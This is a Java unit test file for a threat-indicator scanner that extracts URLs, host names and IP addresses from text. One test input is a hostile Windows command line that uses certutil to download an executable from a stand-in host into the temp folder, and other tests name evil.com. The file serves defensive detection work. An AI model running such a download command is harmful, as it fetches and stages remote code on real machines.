package io.vigil.ioc;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class TextScannerTest {
    private final List<String> found = new ArrayList<>();
    private final TextScanner.Visitor visitor = new TextScanner.Visitor() {
        @Override
        public void url(String urlKey) {
            found.add("url " + urlKey);
        }

        @Override
        public void host(String name) {
            found.add("host " + name);
        }

        @Override
        public void ip(IpAddress ip) {
            found.add("ip " + ip);
        }
    };

    @Test
    void findsUrlsHostsAndAddresses() {
        TextScanner.scan(
                "cmd /c \"certutil -urlcache -f http://a.b.example/x.exe?y=1 %temp%\\x.exe\" & ping "
                        + "10.0.0.5 && curl [2001:db8::2]:8080",
                true, true, true, true, visitor);
        assertThat(found)
                .contains(
                        "url a.b.example/x.exe?y=1",
                        "host a.b.example",
                        "host x.exe",
                        "ip 10.0.0.5",
                        "ip 2001:db8:0:0:0:0:0:2");
    }

    @Test
    void trimsPunctuationAndSkipsDotlessRuns() {
        TextScanner.scan("see (evil.com). and -foo.org- then localhost", false, true, true, false, visitor);
        assertThat(found).containsExactly("host evil.com", "host foo.org");
    }

    @Test
    void textBeyondTheLimitIsNotScanned() {
        String text = "a".repeat(TextScanner.MAX_TEXT) + " evil.com";
        TextScanner.scan(text, false, true, false, false, visitor);
        assertThat(found).isEmpty();
    }
}
